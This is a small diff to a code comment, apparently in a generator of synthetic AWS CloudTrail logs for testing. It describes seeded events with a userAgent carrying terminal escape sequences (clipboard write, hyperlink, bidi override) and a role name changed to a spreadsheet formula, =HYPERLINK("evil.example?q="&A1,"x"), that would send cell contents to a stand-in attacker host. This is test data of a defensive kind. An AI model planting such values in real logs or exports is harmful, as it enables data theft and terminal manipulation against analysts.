@@ -10,7 +10,7 @@
  * fixed: eventID e5ca9e00-1b5b-4d32-8a07-000000000001 (GetCallerIdentity, 2026-11-23T21:38:12Z) has a
  * userAgent with ESC[2J, an OSC 52 clipboard write, an OSC 8 link and U+202E; eventID
  * f0a1a000-3d48-4c59-9e50-000000000002 (CreateRole, 2026-11-24T10:15:03Z) creates a role named
- * =HYPERLINK("http://evil.example","x"). `--events N` sets the ordinary events (default 3600; fixed
+ * =HYPERLINK("evil.example?q="&A1,"x"). `--events N` sets the ordinary events (default 3600; fixed
  * scenarios add ~400); `--events 1000000` makes a benchmark folder of ~10,000 files of at most 100
  * events, streamed window by window in bounded memory. Rewrites only DIR/AWSLogs.
  */
